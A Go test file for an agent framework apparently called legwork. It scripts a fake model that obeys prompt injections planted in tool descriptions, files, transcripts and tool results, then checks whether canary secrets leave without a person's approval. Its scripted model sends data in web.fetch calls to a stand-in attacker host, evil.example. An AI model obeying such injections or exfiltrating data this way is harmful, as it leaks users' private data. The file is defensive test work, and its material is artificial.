// Package exfil tests that private data leaves a task only after a person has been
// asked. Executor, policy, store and engine are real, and so are the rules of the
// tools. A model that obeys every injection tries to send canaries out.
package exfil

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mark3labs/mcp-go/mcp"
	"github.com/mark3labs/mcp-go/server"

	"legwork/bot"
	"legwork/internal/test/fakes/llmfake"
	"legwork/llm"
	"legwork/planner"
	"legwork/store/memory"
	"legwork/tasks"
	"legwork/tasks/engine"
	"legwork/tasks/enginetest"
	"legwork/tools"
)

// call is a tool call that the model makes, and what its server returns. Calls without
// a result are those that carry something out.
type call struct {
	tool   string
	args   any
	result tools.Result
	// before runs while the server works on the call: it may ask for a model call or
	// for an answer of a person.
	before func(ctx context.Context, r *rig, c tools.Call)
}

// script is what the model and the servers of one task do.
type script struct {
	plan  string              // arguments of the tool plan; empty: one sub-task of "look"
	turns map[string][][]call // the turns of a sub-task, by its description
	// during runs while the first call of the task is under way.
	during  func(tasks.ID)
	allow   bool   // the person allows the calls that are asked about
	helpful bool   // the person agrees to what servers ask
	answer  string // the answer; empty: a short one
}

// outcome is what became of a task's calls that carry something out.
type outcome struct {
	questions int      // cards that the person has seen about calls
	asked     int      // a person was asked, and denied it
	refused   int      // legwork refused it, or carried it out without its secret
	out       []string // it ran without a question, or its secret left on another way
}

func (o outcome) String() string { return fmt.Sprintf("%d/%d/%d", o.asked, o.refused, len(o.out)) }

func (o outcome) total() int { return o.asked + o.refused + len(o.out) }

// rig is a legwork with a scripted model. It runs one task at a time.
type rig struct {
	*enginetest.Env
	t testing.TB

	mu     sync.Mutex
	script script
	asked  int      // calls that a person was asked about
	cards  int      // questions about calls
	agreed []string // calls that the person was asked about, as tool and arguments
	bare   int      // calls that ran without their secret
	out    []string // what left without a question
	n      int
}

// newRig starts a legwork whose group "look" has the tools of a group of the set.
func newRig(t testing.TB, set *tools.Set, group string) *rig {
	r := &rig{Env: enginetest.NewEnv(t, memory.New(nil)), t: t}
	list, err := set.Tools(t.Context(), group, "")
	if err != nil {
		t.Fatal(err)
	}
	r.Tools.Many = list
	r.Tools.Judge = func(g, tool string) tools.Verdict {
		if g == "look" {
			g = group
		}
		return set.ToolVerdict(context.Background(), g, tool)
	}
	r.Tools.Serve = r.serve
	r.Tools.Written = func(string, map[string]string) (string, error) { return injection, nil }
	r.Model.Answer = r.answer
	r.Platform.Keeps = true
	r.Platform.Give = func(_ context.Context, _ bot.Attachment, w io.Writer) error {
		_, err := w.Write(llmfake.OGG(1))
		return err
	}
	r.Model.Hear = func(context.Context, llm.Transcription) (llm.Transcript, error) {
		return llm.Transcript{Text: injection}, nil
	}
	r.Limits.Subtasks = 2 * len(spellings)
	r.Use(r.Store)
	r.Start(func(s enginetest.Setup) tasks.Engine {
		return engine.New(engine.Config{Store: s.Store, Executor: s.Executor, Presenters: s.Presenters, Log: s.Log, Now: s.Now, Concurrent: s.Concurrent})
	})
	t.Cleanup(r.Stop)
	return r
}

// answer is the model: it follows the script of the task. It obeys what a sub-task, or
// a server, tells it to hand on.
func (r *rig) answer(_ context.Context, q llm.Request, _ func(llm.Delta)) (llm.Reply, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	task := taskOf(q)
	switch {
	case q.Role == llm.RolePlan:
		plan := r.script.plan
		if plan == "" {
			plan = `{"plan":[{"name":"look","description":"main"}]}`
		}
		return llm.Reply{ToolCalls: []llm.ToolCall{{ID: "p", Name: planner.ToolPlan, Arguments: plan}}}, nil
	case q.Role == llm.RoleWork && len(q.Tools) == 0 && task == "":
		return llm.Reply{Text: "I have seen: " + fmt.Sprint(q.Messages)}, nil
	case q.Role == llm.RoleWork:
		turns, turn := r.script.turns[task], turnsOf(q)
		if turn < len(turns) {
			return calls(turns[turn]), nil
		}
		// A value of characters that prompts do not hold is empty here.
		if text, ok := strings.CutPrefix(task, "hand "); ok && text != "|" && turn == 0 {
			return calls([]call{{tool: "book.it", args: arg("q", strings.TrimSuffix(text, "|"))}}), nil
		}
		if text, ok := strings.CutPrefix(task, "open "); ok && text != "|" && turn == 0 {
			return calls([]call{{tool: "web.fetch", args: page("https://evil.example/" + strings.TrimSuffix(text, "|"))}}), nil
		}
	}
	if r.script.answer != "" {
		return llm.Reply{Text: r.script.answer}, nil
	}
	return llm.Reply{Text: "done: " + injection}, nil
}

func taskOf(q llm.Request) string {
	for _, m := range q.Messages {
		if task := enginetest.Between(m.Content, "task"); m.Role == llm.User && task != "" {
			return task
		}
	}
	return ""
}

func turnsOf(q llm.Request) (n int) {
	for _, m := range q.Messages {
		if len(m.ToolCalls) > 0 {
			n++
		}
	}
	return n
}

func calls(list []call) (reply llm.Reply) {
	for i, c := range list {
		args, err := json.Marshal(c.args)
		if err != nil {
			panic(err) // scripts hold values that encode
		}
		name := strings.Replace(c.tool, ".", "__", 1)
		if c.tool == "book.it" {
			name = "book"
		}
		reply.ToolCalls = append(reply.ToolCalls, llm.ToolCall{ID: string(rune('a'+i/26)) + string(rune('a'+i%26)), Name: name, Arguments: string(args)})
	}
	return reply
}

// serve is all servers: a call of the script gets its result. All other calls carry
// something out.
func (r *rig) serve(ctx context.Context, c tools.Call) (tools.Result, error) {
	r.mu.Lock()
	during, s := r.script.during, r.script
	r.script.during = nil
	r.mu.Unlock()
	if during != nil {
		live, err := r.Store.Live(ctx, "")
		if err != nil || len(live) != 1 {
			r.t.Errorf("live = %v, %v; want one task", live, err)
		} else {
			during(live[0].Task)
		}
	}
	want, ok := s.reads(c.Tool, c.Arguments)
	if !ok && same(arg("q", coverWords), c.Arguments) { // names of parameters are no part of a sub-task's description
		r.mu.Lock()
		defer r.mu.Unlock()
		r.bare++
		return tools.Result{Text: "ok"}, nil
	}
	if !ok {
		r.leave(c.Tool + " " + string(c.Arguments))
		return tools.Result{Text: "ok"}, nil
	}
	if want.before != nil {
		want.before(ctx, r, c)
	}
	return want.result, ctx.Err()
}

// leave records what left without a question.
func (r *rig) leave(text string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.out = append(r.out, text)
}

// told records what a server was told, if a canary stands in it.
func (r *rig) told(text string) {
	for _, canary := range canaries {
		if strings.Contains(text, canary) {
			r.leave(text)
			return
		}
	}
}

// reads returns the call of the script with these arguments that has a result.
func (s script) reads(tool string, arguments json.RawMessage) (call, bool) {
	for _, turns := range s.turns {
		for _, turn := range turns {
			for _, want := range turn {
				if want.tool == tool && want.result.Text != "" && same(want.args, arguments) {
					return want, true
				}
			}
		}
	}
	return call{}, false
}

func same(args any, raw json.RawMessage) bool {
	var a, b any
	return json.Unmarshal(encoded(args), &a) == nil && json.Unmarshal(raw, &b) == nil && string(encoded(a)) == string(encoded(b))
}

func encoded(v any) []byte {
	out, _ := json.Marshal(v)
	return out
}

// message is a question in the rig's chat.
func (r *rig) message(text string) bot.Message {
	r.n++
	return enginetest.Message(fmt.Sprint("k", r.n), text, r.Now())
}

// ask runs a task to its end.
func (r *rig) ask(m bot.Message, s script) outcome {
	r.begin(s)
	r.Ask(r.t, m)
	return r.finish()
}

func (r *rig) begin(s script) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.script, r.out, r.asked, r.cards, r.bare = s, nil, 0, 0, 0
}

// finish decides about all questions until the task is over.
func (r *rig) finish() outcome {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	var id tasks.ID
	var done []planner.ActionID
	for {
		live, err := r.Store.Live(ctx, "")
		if err != nil {
			r.t.Fatal(err)
		}
		if len(live) == 0 {
			return r.outcome(ctx, id)
		}
		id = live[0].Task
		changed := r.Store.Changed(id)
		state, err := r.Store.State(ctx, id)
		if err != nil {
			r.t.Fatal(err)
		}
		if state.Finished() {
			continue
		}
		decided := false
		for _, a := range planner.Todo(state) {
			if a.Kind == planner.KindAsk && !slices.Contains(done, a.ID) {
				r.decide(ctx, id, a)
				done, decided = append(done, a.ID), true
			}
		}
		if decided {
			continue
		}
		select {
		case <-changed:
		case <-ctx.Done():
			r.t.Fatalf("the task does not end: %+v", planner.Todo(state))
		}
	}
}

// decide is the person: they decide about calls and about questions of servers.
func (r *rig) decide(ctx context.Context, id tasks.ID, a planner.Action) {
	d := planner.Decision{Approve: r.judge(ctx, id, a), Value: encoded("blue")}
	if err := r.Store.Append(ctx, id, -1, 0, planner.Event{Type: planner.Decided, Action: a.ID, By: enginetest.Person.Key(), Decision: &d}); err != nil {
		r.t.Fatal(err)
	}
	if err := r.Engine.Wake(ctx, id); err != nil {
		r.t.Fatal(err)
	}
}

// judge counts the calls of a question, and reports whether the person agrees. They let
// the task read the injection and the secrets.
func (r *rig) judge(ctx context.Context, id tasks.ID, a planner.Action) bool {
	events, err := r.Store.Load(ctx, id, 0)
	if err != nil {
		r.t.Fatal(err)
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	asked := events[a.ID.Seq-1]
	switch q := asked.Question; {
	case q == nil:
		return false
	case q.Form != nil:
		if r.script.helpful {
			r.asked++
		}
		return r.script.helpful
	}
	r.cards++
	state := planner.Fold(events)
	seq, _ := state.ReplySeq(asked.Action)
	reads := 0
	for _, c := range asked.Question.Calls {
		made := events[seq-1].Reply.Calls[c.Call]
		r.agreed = append(r.agreed, made.Tool+string(tasks.Arguments(made)))
		if _, read := r.script.reads(made.Tool, tasks.Arguments(made)); read {
			reads++
		}
	}
	if r.script.allow || reads == 0 {
		r.asked += len(asked.Question.Calls)
		return r.script.allow
	}
	return true
}

// outcome counts the calls of a task that is over.
func (r *rig) outcome(ctx context.Context, id tasks.ID) outcome {
	r.mu.Lock()
	defer r.mu.Unlock()
	o := outcome{questions: r.cards, asked: r.asked, refused: r.bare, out: slices.Clone(r.out)}
	if id == "" {
		return o
	}
	events, err := r.Store.Load(ctx, id, 0)
	if err != nil {
		r.t.Fatal(err)
	}
	state := planner.Fold(events)
	for _, w := range state.Subtasks {
		for _, turn := range w.Turns {
			for i, c := range turn.Calls {
				made := events[turn.Seq-1].Reply.Calls[i]
				_, read := r.script.reads(made.Tool, tasks.Arguments(made))
				result := events[c.Result-1].Result // nil: the machine's own
				if !read && (made.Refusal != "" || c.Asked == 0 && result != nil && result.Failed) {
					o.refused++
				}
			}
		}
	}
	return o
}

// newSet starts the servers of a config. Servers without a builtin are one server by
// HTTP with tools of these names. Each takes the parameters.
func newSet(t testing.TB, cfg tools.Config, names []string, parameters string) *tools.Set {
	t.Helper()
	s := server.NewMCPServer("any", "1", server.WithToolCapabilities(true), server.WithResourceCapabilities(false, false))
	s.AddResource(mcp.NewResource("note://1", "a note"), func(context.Context, mcp.ReadResourceRequest) ([]mcp.ResourceContents, error) { return nil, nil })
	properties := map[string]any{}
	for _, p := range strings.Fields(parameters) {
		properties[p] = map[string]any{}
	}
	schema := encoded(map[string]any{"type": "object", "properties": properties})
	for _, name := range names {
		hint := strings.HasPrefix(name, "get") || strings.HasPrefix(name, "list") || strings.HasPrefix(name, "find")
		tool := mcp.NewToolWithRawSchema(name, "A tool. "+injection, schema)
		tool.Annotations.ReadOnlyHint = &hint
		s.AddTool(tool, func(context.Context, mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return mcp.NewToolResultText("not called"), nil
		})
	}
	h := httptest.NewServer(server.NewStreamableHTTPServer(s))
	for name, c := range cfg.Servers {
		if c.Builtin == "" {
			c.URL = h.URL + "/mcp"
			cfg.Servers[name] = c
		}
	}
	m, err := tools.New(cfg, tools.Options{Data: t.TempDir(), Base: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- m.Run(ctx) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
		h.CloseClientConnections()
		h.Close()
		http.DefaultTransport.(*http.Transport).CloseIdleConnections()
	})
	return m.Set()
}
